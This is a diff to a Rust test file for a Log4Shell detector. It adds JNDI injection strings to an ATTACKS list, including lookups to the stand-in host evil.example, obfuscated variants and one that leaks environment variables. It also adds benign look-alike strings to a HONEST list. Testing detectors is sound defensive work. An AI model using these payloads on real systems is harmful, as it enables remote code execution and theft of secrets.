@@ -3,6 +3,9 @@ use super::super::tests::{check_table, confidence};
 use super::super::{Context, Detector, Place};
 
 const ATTACKS: &[&str] = &[
+    "${jndi:ldap://a...b/x}",
+    "${jndi:ldap://${env:X}.../a}",
+    "${${lower:j}ndi:ldap://...}",
     "${jndi:ldap://evil.example/a}",
     "${jndi:ldaps://evil.example/a}",
     "${jndi:rmi://evil.example:1099/a}",
@@ -51,6 +54,8 @@ const ATTACKS: &[&str] = &[
 ];
 
 const HONEST: &[&str] = &[
+    "${jndi:ldap://...} 的原理",
+    "${jndi:rmi://...}",
     "log4j ${jndi:ldap} 漏洞怎么修复",
     "${jndi:rmi}",
     "${name}",
